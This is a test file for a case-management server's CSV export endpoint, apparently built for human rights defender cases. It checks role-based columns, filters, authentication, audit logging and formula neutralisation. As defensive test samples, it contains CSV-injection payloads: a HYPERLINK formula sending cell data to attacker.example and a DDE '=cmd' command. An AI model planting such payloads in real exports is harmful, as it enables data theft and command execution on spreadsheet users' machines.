/**
 * `GET /export/cases.csv` over HTTP against the seeded demo data: the same cases as the `cases`
 * query, only the columns the caller's classes allow (empty cells where a case's relation denies
 * them), the same filters, the same sign-in, a refused cross-site cookie request, one audit event
 * listing every exported case, and neutralised spreadsheet formulas.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { createLogger, queryRows, seedDemo } from '@hrd/server';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sessionKey } from '../../packages/server/src/auth/session-tokens.js';
import { neutraliseCell, toCsv } from '../../packages/server/src/modules/export/export.columns.js';
import { parseExportQuery } from '../../packages/server/src/modules/export/export.params.js';
import { exportCasesRoute } from '../../packages/server/src/modules/export/export.route.js';
import { contextFactory } from '../../packages/server/src/request/context-factory.js';
import { currentDriver, openTestDatabase, type TestDatabase } from '../support/database.js';
import { startTestServer, TEST_KEYRING, TEST_SESSION_SECRET, type TestServer, testConfig } from '../support/server.js';
import { type SignedIn, signIn } from '../support/session.js';

const META_COLUMNS = [
  'reference',
  'status',
  'urgency',
  'size',
  'custodian_kind',
  'origin_kind',
  'activities',
  'created_at',
  'updated_at',
  'your_relation',
  'ircc_stage',
  'ircc_outcome',
];
/** META without the reference: what an analyst gets (issue #7). */
const META_NO_REFERENCE = META_COLUMNS.filter((c) => c !== 'reference');
const QUASI_COLUMNS = ['country_of_nationality', 'country_of_asylum'];
const IDENTITY_COLUMNS = ['principal_given_name', 'principal_family_name', 'in_hiding', 'hrd_summary'];
const CHARGES_COLUMNS = ['charges_count', 'judicial_harassment_count'];
const ALL_COLUMNS = [...META_COLUMNS, ...QUASI_COLUMNS, ...IDENTITY_COLUMNS, ...CHARGES_COLUMNS];

/** RFC 4180, as a spreadsheet would read it (quoted fields, doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

interface Csv {
  status: number;
  headers: Headers;
  text: string;
  header: string[];
  rows: Array<Record<string, string>>;
}

async function readCsv(response: Response): Promise<Csv> {
  const text = await response.text();
  const [header = [], ...body] = response.status === 200 ? parseCsv(text) : [];
  const rows = body.map((cells) => {
    expect(cells).toHaveLength(header.length);
    return Object.fromEntries(header.map((name, i) => [name, cells[i] ?? '']));
  });
  return { status: response.status, headers: response.headers, text, header, rows };
}

interface CaseNode {
  id: string;
  reference: string;
  status: string;
  viewerRelation: string;
  persons: Array<{ role: string; givenName: string; familyName: string }> | null;
}
const CASES = `query($filter: CaseFilter) {
  cases(first: 100, filter: $filter) {
    totalCount
    edges { node { id reference status viewerRelation persons { role givenName familyName } } }
  }
}`;
/** For an analyst, whose schema has neither `reference` nor `persons` (issue #7). */
const ANALYST_CASES = CASES.replace(' reference ', ' ').replace(' persons { role givenName familyName } ', ' ');

interface EventRow extends Record<string, unknown> {
  seq: number;
  action: string;
  outcome: string;
  fields: string[];
  case_ids: string[];
  detail: Record<string, unknown>;
  actor_id: string | null;
  request_id: string | null;
}

describe('CSV cells', () => {
  it('neutralises every formula start with a leading apostrophe, and leaves other cells alone', () => {
    for (const danger of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '＝1+1', '＠x']) {
      expect(neutraliseCell(danger)).toBe(`'${danger}`);
    }
    expect(neutraliseCell('=HYPERLINK("http://evil.example","x")')).toBe('\'=HYPERLINK("http://evil.example","x")');
    for (const safe of ['Aderyn', 'FLD-2026-0001', '2026-03-01T00:00:00.000Z', " '=x", 'a=b', '']) {
      expect(neutraliseCell(safe)).toBe(safe);
    }
    expect(neutraliseCell(null)).toBe('');
    expect(neutraliseCell(undefined)).toBe('');
    expect(neutraliseCell(3)).toBe('3');
    expect(neutraliseCell(false)).toBe('false');
  });

  it('quotes what needs quoting, so a neutralised cell reads back as one cell', () => {
    const cell = neutraliseCell('=cmd|" /C calc"!A0,\r\nnext');
    const csv = toCsv([{ name: 'x', fieldClass: 'META', value: () => null }], [[cell], ['plain']]);
    expect(parseCsv(csv)).toEqual([['x'], [`'=cmd|" /C calc"!A0,\r\nnext`], ['plain']]);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('reads filters from repeated and comma-separated parameters', () => {
    const query = parseExportQuery(
      new URLSearchParams(
        'status=draft,REFERRED&status=REFERRED&urgency=EMERGENCY&createdAfter=2024-02-29&orderBy=urgency',
      ),
    );
    expect(query.filter.status).toEqual(['DRAFT', 'REFERRED']);
    expect(query.filter.urgency).toEqual(['EMERGENCY']);
    expect(query.filter.createdAfter?.toISOString()).toBe('2024-02-29T00:00:00.000Z');
    expect(query.orderBy).toBe('URGENCY');
    // `+` encoded, or left unencoded (a query string reads it as a space).
    for (const qs of ['referredBefore=2026-03-01T12:30:00%2B02:00', 'referredBefore=2026-03-01T12:30:00+02:00']) {
      expect(parseExportQuery(new URLSearchParams(qs)).filter.referredBefore).toEqual(new Date('2026-03-01T10:30:00Z'));
    }
    expect(parseExportQuery(new URLSearchParams('createdBefore=2026-03-01T00:00-05:00')).filter.createdBefore).toEqual(
      new Date('2026-03-01T05:00:00Z'),
    );
    const bad = (qs: string) => {
      try {
        parseExportQuery(new URLSearchParams(qs));
      } catch (error) {
        return (error as { extensions: Record<string, unknown> }).extensions;
      }
      return null;
    };
    expect(bad('createdAfter=2025-02-29')).toEqual({ code: 'BAD_USER_INPUT', parameter: 'createdAfter' });
    expect(bad('createdBefore=yesterday')).toEqual({ code: 'BAD_USER_INPUT', parameter: 'createdBefore' });
    expect(bad('countryOfAsylum=Turkey')).toEqual({ code: 'BAD_USER_INPUT', parameter: 'countryOfAsylum' });
    expect(bad('referencePrefix=FLD%25')).toEqual({ code: 'BAD_USER_INPUT', parameter: 'referencePrefix' });
    expect(bad('orderBy=NAME')).toEqual({ code: 'BAD_USER_INPUT', parameter: 'orderBy' });
    expect(bad('orderBy=URGENCY&orderBy=CREATED_ASC')).toEqual({ code: 'BAD_USER_INPUT', parameter: 'orderBy' });
    expect(bad('statuses=DRAFT')).toEqual({ code: 'BAD_USER_INPUT', parameter: 'statuses' });
  });
});

describe(`GET /export/cases.csv on ${currentDriver()}`, () => {
  let database: TestDatabase;
  let server: TestServer;
  let seedNames: string[];

  const exportAs = (who: SignedIn | null, query = '', headers: Record<string, string> = {}) =>
    fetch(`${server.url}/export/cases.csv${query ? `?${query}` : ''}`, {
      headers: { ...(who ? { authorization: `Bearer ${who.token}` } : {}), ...headers },
    });
  const casesOf = async (who: SignedIn, filter?: Record<string, unknown>, query = CASES) => {
    const response = await who.graphql<{ cases: { totalCount: number; edges: Array<{ node: CaseNode }> } }>(query, {
      filter,
    });
    const cases = response.body.data?.cases;
    if (!cases) throw new Error(JSON.stringify(response.body.errors));
    return cases.edges.map((e) => e.node);
  };
  const head = async () =>
    Number(
      (await queryRows<{ s: number }>(database.db, sql`SELECT coalesce(max(seq), 0)::int AS s FROM audit_events`))[0]
        ?.s,
    );
  const eventsAfter = async (seq: number) =>
    queryRows<EventRow>(
      database.db,
      sql`SELECT seq::int AS seq, action, outcome, fields, case_ids::text[] AS case_ids, detail, actor_id, request_id
            FROM audit_events WHERE seq > ${seq} ORDER BY seq`,
    );

  beforeAll(async () => {
    database = await openTestDatabase();
    await seedDemo(database.db, { keyring: TEST_KEYRING });
    server = await startTestServer(database);
    const names = await queryRows<{ given_name: string; family_name: string }>(
      database.db,
      sql`SELECT given_name, family_name FROM persons`,
    );
    seedNames = [...new Set(names.flatMap((n) => [n.given_name, n.family_name]))];
  });
  afterAll(async () => {
    await server.close();
    await database.close();
  });

  it("a caseworker's CSV has every column and exactly the cases `cases(first: 100)` returns", async () => {
    const unhcr = await signIn(server, 'caseworker@unhcr.demo');
    const csv = await readCsv(await exportAs(unhcr));
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('cache-control')).toBe('no-store');
    expect(csv.headers.get('x-content-type-options')).toBe('nosniff');
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="cases-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(csv.headers.get('x-export-truncated')).toBeNull();
    expect(csv.header).toEqual(ALL_COLUMNS);

    const cases = await casesOf(unhcr);
    expect(cases.length).toBeGreaterThan(10);
    expect(csv.rows.map((r) => r.reference)).toEqual(cases.map((c) => c.reference));

    // Identity where the API shows it, and only there.
    const byReference = new Map(cases.map((c) => [c.reference, c]));
    let named = 0;
    for (const row of csv.rows) {
      const node = byReference.get(row.reference ?? '');
      const principal = node?.persons?.find((p) => p.role === 'PRINCIPAL');
      expect(row.your_relation).toBe(node?.viewerRelation);
      expect(row.status).toBe(node?.status);
      expect(row.principal_given_name).toBe(principal?.givenName ?? '');
      expect(row.principal_family_name).toBe(principal?.familyName ?? '');
      if (principal) named += 1;
      if (node?.persons === null) {
        for (const column of [...QUASI_COLUMNS, ...IDENTITY_COLUMNS, ...CHARGES_COLUMNS]) expect(row[column]).toBe('');
      }
    }
    expect(named).toBeGreaterThan(5);
    // Kinds, never a third party's name; never a SECRET value.
    expect(csv.text).not.toContain('Civic Shield');
    expect(csv.text).not.toContain('safe house');
    expect(new Set(csv.rows.map((r) => r.origin_kind))).toContain('THIRD_PARTY');
  });

  it("an analyst's CSV has META columns only, no reference and no name from the seed", async () => {
    const analyst = await signIn(server, 'analyst@ircc.demo');
    const csv = await readCsv(await exportAs(analyst));
    expect(csv.status).toBe(200);
    expect(csv.header).toEqual(META_NO_REFERENCE);
    const cases = await casesOf(analyst, undefined, ANALYST_CASES);
    expect(cases.length).toBeGreaterThan(5);
    expect(csv.rows).toHaveLength(cases.length);
    const references = await queryRows<{ reference: string }>(
      database.db,
      sql`SELECT reference FROM cases WHERE id IN (${sql.join(
        cases.map((c) => sql`${c.id}::uuid`),
        sql`, `,
      )})`,
    );
    expect(references).toHaveLength(cases.length);
    for (const { reference } of references) expect(csv.text).not.toContain(reference);
    expect(new Set(csv.rows.map((r) => r.your_relation))).toEqual(new Set(['IRCC']));
    expect(seedNames.length).toBeGreaterThan(10);
    for (const name of seedNames) expect(csv.text).not.toContain(name);
    expect(csv.text).not.toContain('Synthetic defender profile');
  });

  it('the third party sees identity only on the cases it holds, empty cells on FORMER ones', async () => {
    const referrer = await signIn(server, 'referrer@civicshield.demo');
    const csv = await readCsv(await exportAs(referrer));
    expect(csv.status).toBe(200);
    expect(csv.header).toEqual(ALL_COLUMNS);
    const cases = await casesOf(referrer);
    expect(csv.rows.map((r) => r.reference)).toEqual(cases.map((c) => c.reference));
    const held = csv.rows.filter((r) => r.your_relation === 'CUSTODIAN');
    const former = csv.rows.filter((r) => r.your_relation === 'FORMER');
    expect(held.length).toBeGreaterThan(0);
    expect(former.length).toBeGreaterThan(0);
    expect(held.length + former.length).toBe(csv.rows.length);
    for (const row of held) {
      expect(row.principal_given_name).not.toBe('');
      expect(row.hrd_summary).toMatch(/^Synthetic defender profile/);
      expect(row.in_hiding).toMatch(/^(true|false)$/);
      expect(row.country_of_asylum).toMatch(/^[A-Z]{2}$/);
      expect(row.charges_count).toMatch(/^\d+$/);
    }
    for (const row of former) {
      for (const column of [...QUASI_COLUMNS, ...IDENTITY_COLUMNS, ...CHARGES_COLUMNS]) expect(row[column]).toBe('');
      expect(row.reference).not.toBe('');
      expect(row.status).not.toBe('');
    }
    const formerNames = (await queryRows<{ given_name: string; family_name: string }>(
      database.db,
      sql`SELECT p.given_name, p.family_name FROM persons p JOIN cases c ON c.id = p.case_id
           WHERE c.reference IN (${sql.join(
             former.map((r) => sql`${r.reference}`),
             sql`, `,
           )})`,
    )) as Array<{ given_name: string; family_name: string }>;
    const heldNames = new Set(held.flatMap((r) => [r.principal_given_name, r.principal_family_name]));
    // A FORMER case's principal is not in the CSV unless the same invented name is on a held case.
    for (const p of formerNames) {
      if (!heldNames.has(p.family_name)) expect(csv.text).not.toContain(p.family_name);
    }
  });

  it('an analyst filtering the export by referencePrefix is FORBIDDEN, and the denial is audited', async () => {
    const analyst = await signIn(server, 'analyst@ircc.demo');
    const mark = await head();
    const response = await exportAs(analyst, 'referencePrefix=FLD-');
    expect(response.status).toBe(403);
    const body = (await response.json()) as { errors: Array<{ extensions: Record<string, unknown> }> };
    expect(body.errors.map((e) => e.extensions.code)).toEqual(['FORBIDDEN']);
    expect(JSON.stringify(body)).not.toMatch(/FLD-\d{4}-/);
    const events = await eventsAfter(mark);
    expect(events).toEqual([
      expect.objectContaining({
        action: 'case.read',
        outcome: 'DENIED',
        fields: ['REFERENCE'],
        actor_id: analyst.userId,
      }),
    ]);
    // The officer of the same organization may: references are IRCC officers' to read.
    const officer = await signIn(server, 'officer@ircc.demo');
    expect((await exportAs(officer, 'referencePrefix=FLD-')).status).toBe(200);
  });

  it('an org admin (no case-working role) gets a header and no rows', async () => {
    const admin = await signIn(server, 'admin@pd.demo');
    const csv = await readCsv(await exportAs(admin));
    expect(csv.status).toBe(200);
    expect(csv.header).toEqual(META_COLUMNS);
    expect(csv.rows).toEqual([]);
  });

  it('filters narrow the export exactly as they narrow `cases`', async () => {
    const fld = await signIn(server, 'caseworker@fld.demo');
    const all = await readCsv(await exportAs(fld));

    const drafts = await readCsv(await exportAs(fld, 'status=DRAFT'));
    expect(drafts.rows.length).toBeGreaterThan(0);
    expect(drafts.rows.length).toBeLessThan(all.rows.length);
    expect(new Set(drafts.rows.map((r) => r.status))).toEqual(new Set(['DRAFT']));
    expect(drafts.rows.map((r) => r.reference)).toEqual(
      (await casesOf(fld, { status: ['DRAFT'] })).map((c) => c.reference),
    );

    const two = await readCsv(await exportAs(fld, 'status=DRAFT,REFERRED&status=APPROVED'));
    expect(two.rows.map((r) => r.reference)).toEqual(
      (await casesOf(fld, { status: ['DRAFT', 'REFERRED', 'APPROVED'] })).map((c) => c.reference),
    );

    const prefixed = await readCsv(await exportAs(fld, 'referencePrefix=FLD-'));
    expect(prefixed.rows.length).toBeGreaterThan(0);
    expect(prefixed.rows.length).toBeLessThan(all.rows.length);
    expect(prefixed.rows.every((r) => r.reference?.startsWith('FLD-'))).toBe(true);
    expect(prefixed.rows.map((r) => r.reference)).toEqual(
      (await casesOf(fld, { referencePrefix: 'FLD-' })).map((c) => c.reference),
    );

    const oldest = await readCsv(await exportAs(fld, 'orderBy=CREATED_ASC'));
    expect(oldest.rows.map((r) => r.reference)).toEqual(all.rows.map((r) => r.reference).reverse());

    const none = await readCsv(await exportAs(fld, 'referencePrefix=NOPE-'));
    expect(none.status).toBe(200);
    expect(none.header).toEqual(ALL_COLUMNS);
    expect(none.rows).toEqual([]);
  });

  it('a bad parameter answers 400 BAD_USER_INPUT naming it', async () => {
    const fld = await signIn(server, 'caseworker@fld.demo');
    for (const [query, parameter] of [
      ['status=NOT_A_STATUS', 'status'],
      ['urgency=SOON', 'urgency'],
      ['createdAfter=2026-13-01', 'createdAfter'],
      ['countryOfAsylum=TUR', 'countryOfAsylum'],
      ['colour=red', 'colour'],
    ] as const) {
      const response = await exportAs(fld, query);
      expect(response.status, query).toBe(400);
      expect(response.headers.get('content-type')).toMatch(/^application\/json/);
      const body = (await response.json()) as { errors: Array<{ extensions: Record<string, unknown> }> };
      expect(body.errors[0]?.extensions, query).toEqual({ code: 'BAD_USER_INPUT', parameter });
    }
  });

  it('without a valid session or token: 401 UNAUTHENTICATED', async () => {
    const expected = { errors: [{ message: 'Sign in first.', extensions: { code: 'UNAUTHENTICATED' } }] };
    const anonymous = await exportAs(null);
    expect(anonymous.status).toBe(401);
    expect(anonymous.headers.get('cache-control')).toBe('no-store');
    expect(await anonymous.json()).toEqual(expected);
    const forged = await exportAs(null, '', { authorization: 'Bearer not-a-real-token-at-all' });
    expect(forged.status).toBe(401);
    expect(await forged.json()).toEqual(expected);
    const staleCookie = await exportAs(null, '', { cookie: 'hrd_session=not-a-real-token-at-all' });
    expect(staleCookie.status).toBe(401);
    expect(await staleCookie.json()).toEqual(expected);
  });

  it('the session cookie works same-origin only; a cross-site request is refused and audited', async () => {
    const unhcr = await signIn(server, 'caseworker@unhcr.demo');
    const cookie = `hrd_session=${unhcr.token}`;
    const before = await head();
    for (const site of ['cross-site', 'same-site']) {
      const refused = await exportAs(null, '', { cookie, 'sec-fetch-site': site });
      expect(refused.status, site).toBe(403);
      const body = (await refused.json()) as { errors: Array<{ extensions: Record<string, unknown> }> };
      expect(body.errors[0]?.extensions?.code).toBe('FORBIDDEN');
    }
    const denials = await eventsAfter(before);
    expect(denials.map((e) => [e.action, e.outcome, e.actor_id, e.case_ids])).toEqual([
      ['case.export', 'DENIED', unhcr.userId, []],
      ['case.export', 'DENIED', unhcr.userId, []],
    ]);

    for (const site of ['same-origin', 'none']) {
      const allowed = await readCsv(await exportAs(null, '', { cookie, 'sec-fetch-site': site }));
      expect(allowed.status, site).toBe(200);
      expect(allowed.rows.length).toBeGreaterThan(10);
    }
    // A non-browser client sends no fetch metadata.
    expect((await exportAs(null, '', { cookie })).status).toBe(200);
    // The Bearer header is never sent by a browser on its own: no CSRF to guard against.
    expect((await exportAs(unhcr, '', { 'sec-fetch-site': 'cross-site' })).status).toBe(200);
  });

  it('one case.export audit event lists every exported case and the classes exported, never a value', async () => {
    const unhcr = await signIn(server, 'caseworker@unhcr.demo');
    const cases = await casesOf(unhcr);
    const before = await head();
    const response = await exportAs(unhcr);
    const csv = await readCsv(response);
    expect(csv.rows).toHaveLength(cases.length);
    const events = await eventsAfter(before);
    expect(events).toHaveLength(1);
    const [event] = events;
    expect(event).toMatchObject({
      action: 'case.export',
      outcome: 'ALLOWED',
      actor_id: unhcr.userId,
      request_id: response.headers.get('x-request-id'),
      fields: ['CHARGES', 'IDENTITY', 'META', 'QUASI', 'REFERENCE'],
      detail: { format: 'csv' },
    });
    expect([...(event?.case_ids ?? [])].sort()).toEqual(cases.map((c) => c.id).sort());
    const logged = JSON.stringify(events);
    for (const row of csv.rows.slice(0, 20)) {
      if (row.principal_family_name) expect(logged).not.toContain(row.principal_family_name);
      expect(logged).not.toContain(row.reference);
    }

    const analyst = await signIn(server, 'analyst@ircc.demo');
    const mark = await head();
    await readCsv(await exportAs(analyst));
    const [analystEvent] = await eventsAfter(mark);
    expect(analystEvent).toMatchObject({ action: 'case.export', outcome: 'ALLOWED', fields: ['META'] });
    expect(analystEvent?.case_ids.length).toBe((await casesOf(analyst, undefined, ANALYST_CASES)).length);
  });

  it('a value that starts a formula reaches the CSV neutralised', async () => {
    const pd = await signIn(server, 'caseworker@pd.demo');
    const target = (await casesOf(pd)).find((c) => c.viewerRelation === 'CUSTODIAN' && c.persons?.length);
    expect(target).toBeDefined();
    const formula = '=HYPERLINK("http://attacker.example/?"&A1,"Open")';
    // Written as the table owner: the point is what the export makes of such a value.
    await database.db.execute(sql`UPDATE cases SET hrd_summary = ${formula} WHERE id = ${target?.id}`);
    await database.db.execute(
      sql`UPDATE persons SET given_name = '@SUM(1+1)', family_name = '-2+3' WHERE case_id = ${target?.id} AND role = 'PRINCIPAL'`,
    );
    const csv = await readCsv(await exportAs(pd, `referencePrefix=${target?.reference}`));
    expect(csv.rows).toHaveLength(1);
    expect(csv.rows[0]).toMatchObject({
      reference: target?.reference,
      hrd_summary: `'${formula}`,
      principal_given_name: "'@SUM(1+1)",
      principal_family_name: "'-2+3",
    });
  });

  it('stops at the cap and says so in X-Export-Truncated', async () => {
    // The same handler on a plain server with a cap of 5 (the app's cap is 10,000 rows).
    const makeContext = contextFactory({
      config: testConfig(),
      database,
      sessionKey: sessionKey(TEST_SESSION_SECRET),
      keyring: TEST_KEYRING,
    });
    const handler = exportCasesRoute(makeContext, { maxRows: 5 });
    const log = createLogger('silent');
    let next = 0;
    const small = http.createServer((req, res) => {
      Object.assign(req, { id: `capped-${++next}`, log });
      void handler(req as never, res as never);
    });
    await new Promise<void>((resolve) => small.listen(0, '127.0.0.1', resolve));
    try {
      const url = `http://127.0.0.1:${(small.address() as AddressInfo).port}/export/cases.csv`;
      const unhcr = await signIn(server, 'caseworker@unhcr.demo');
      const before = await head();
      const capped = await readCsv(await fetch(url, { headers: { authorization: `Bearer ${unhcr.token}` } }));
      expect(capped.status).toBe(200);
      expect(capped.headers.get('x-export-truncated')).toBe('true');
      expect(capped.rows.map((r) => r.reference)).toEqual((await casesOf(unhcr)).slice(0, 5).map((c) => c.reference));
      const [event] = await eventsAfter(before);
      expect(event).toMatchObject({ action: 'case.export', detail: { format: 'csv', truncated: true } });
      expect(event?.case_ids).toHaveLength(5);

      const fits = await readCsv(
        await fetch(`${url}?referencePrefix=NOPE-`, { headers: { authorization: `Bearer ${unhcr.token}` } }),
      );
      expect(fits.headers.get('x-export-truncated')).toBeNull();
    } finally {
      await new Promise<void>((resolve) => small.close(() => resolve()));
    }
  });
});
